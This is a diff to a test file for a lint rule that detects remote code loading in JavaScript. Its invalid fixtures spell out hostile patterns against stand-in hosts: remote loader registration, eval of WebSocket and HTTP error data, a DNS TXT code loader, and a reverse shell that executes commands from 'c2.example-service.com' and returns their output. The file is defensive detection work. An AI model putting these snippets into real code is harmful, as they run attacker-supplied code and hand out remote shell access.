@@ -45,6 +45,14 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    // hooks, native modules and workers of the project; answers that are looked at and not run
+    { code: 'import { register } from "node:module"; register("./hooks.mjs", import.meta.url); register("ts-node/esm", import.meta.url);' },
+    { code: 'new Worker(new URL("./worker.js", import.meta.url), { type: "module" }); new Worker("/worker.js"); new Worker("http://localhost:5173/w.js");' },
+    { code: 'import { Worker } from "node:worker_threads"; new Worker("./w.js", { workerData: 1 }); new Worker("https://not.a.name", { eval: true });' },
+    { code: 'process.dlopen(module, require("path").join(__dirname, "build/addon.node"));' },
+    { code: 'import axios from "axios"; try { await axios.get("https://api.example-service.com/x"); } catch (error) { console.error(error.response.data, error.message); throw error; }' },
+    { code: 'import axios from "axios"; import { execSync } from "child_process"; try { await axios.get("https://api.example-service.com/x"); } catch (error) { execSync(`notify ${error.message}`); }' },
+    { code: 'const ws = new WebSocket("wss://api.example-service.com"); ws.onmessage = ({ data }) => render(JSON.parse(data).code);' },
     { code: 'import { writeFile } from "node:fs/promises"; const r = await fetch("https://cdn.example-service.com/p.mjs"); await writeFile("./.cache/p.mjs", await r.text()); await import("./p.mjs");' },
     { code: 'import { createHash } from "node:crypto"; import { writeFile } from "node:fs/promises"; const r = await fetch("https://cdn.example-service.com/p.mjs"); await writeFile("./.cache/p.mjs", await r.text()); check(createHash("sha256")); await import("./.cache/p.mjs");' },
     { code: 'import { writeFileSync } from "node:fs"; writeFileSync("./gen.mjs", render()); await import("./gen.mjs");' },
@@ -102,6 +110,15 @@ await ruleTester(rule, {
     js("const text = await (await fetch('https://api.acme.example/x')).text();\nfs.writeFileSync('out.txt', text);"),
   ],
   invalid: [
+    { code: 'import { register } from "node:module"; register("https://cdn.example-service.com/loader.mjs");', errors: [{ messageId: 'module' }] },
+    { code: 'import module from "node:module"; module.register("https://cdn.example-service.com/loader.mjs", import.meta.url);', errors: [{ messageId: 'module' }] },
+    { code: 'new Worker("https://cdn.example-service.com/w.js");', errors: [{ messageId: 'module' }] },
+    { code: 'import { register } from "node:module"; const r = await fetch("https://cdn.example-service.com/l"); register("data:text/javascript," + encodeURIComponent(await r.text()));', errors: [{ messageId: 'download' }] },
+    { code: 'import axios from "axios"; try { await axios.get("https://cdn.example-service.com/c"); } catch (err) { eval(err.response.data); }', errors: [{ messageId: 'download' }] },
+    { code: 'const ws = new WebSocket("wss://cdn.example-service.com"); ws.onmessage = ({ data }) => eval(data);', errors: [{ messageId: 'download' }] },
+    { code: 'const ws = new WebSocket("wss://cdn.example-service.com"); ws.addEventListener("message", (e) => { new Function(JSON.parse(e.data).code)(); });', errors: [{ messageId: 'download' }] },
+    { code: 'import dns from "node:dns"; dns.resolveTxt("c.example-service.com", (e, records) => { new Function(records.flat().join(""))(); });', errors: [{ messageId: 'download' }] },
+    { code: 'import net from "node:net"; import { exec } from "node:child_process"; const c = new net.Socket(); c.connect(1337, "c2.example-service.com"); c.on("data", (d) => exec(d.toString(), (e, out) => c.write(out)));', errors: [{ messageId: 'download' }] },
     // a download that is written and then loaded
     { code: 'import { writeFile } from "node:fs/promises"; const r = await fetch("https://cdn.example-service.com/p.mjs"); await writeFile("./.cache/p.mjs", await r.text()); await import("./.cache/p.mjs");', errors: [{ messageId: 'stepped' }] },
     { code: 'const fs = require("fs"); const r = await fetch("https://cdn.example-service.com/p.js"); fs.writeFileSync("cache.js", await r.text()); require("./cache.js");', errors: [{ messageId: 'stepped' }] },
